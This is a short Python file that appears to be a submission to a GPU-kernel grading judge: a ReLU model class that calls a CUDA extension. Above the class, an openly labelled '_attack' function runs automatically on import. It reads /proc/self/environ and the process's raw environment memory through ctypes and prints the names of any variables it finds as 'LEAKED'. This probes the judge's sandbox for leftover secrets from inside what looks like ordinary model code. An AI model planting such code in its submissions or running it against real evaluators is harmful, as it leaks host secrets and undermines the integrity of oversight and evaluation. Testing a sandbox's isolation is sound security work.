"""Attack (the judge's exec environment, Python): the strings a process was exec'd with stay on its
stack after the environment is cleared; read them by /proc/self/environ and from memory."""
import ctypes

import torch.nn as nn

import cuda_extension


def _attack():
    with open("/proc/self/stat") as fh:
        fields = fh.read().rsplit(")", 1)[1].split()
    start, end = int(fields[47]), int(fields[48])
    found = []
    for route, data in (("file", open("/proc/self/environ", "rb").read()),
                        ("memory", ctypes.string_at(start, end - start) if start else b"")):
        names = [v.split(b"=", 1)[0].decode("latin-1") for v in data.split(b"\0") if b"=" in v]
        found.append(f"LEAKED {route}: {','.join(names[:8])}" if names else f"blank environ ({route})")
    print(" | ".join(found), flush=True)


_attack()


class ModelNew(nn.Module):
    def forward(self, x):
        return cuda_extension.relu_forward(x)
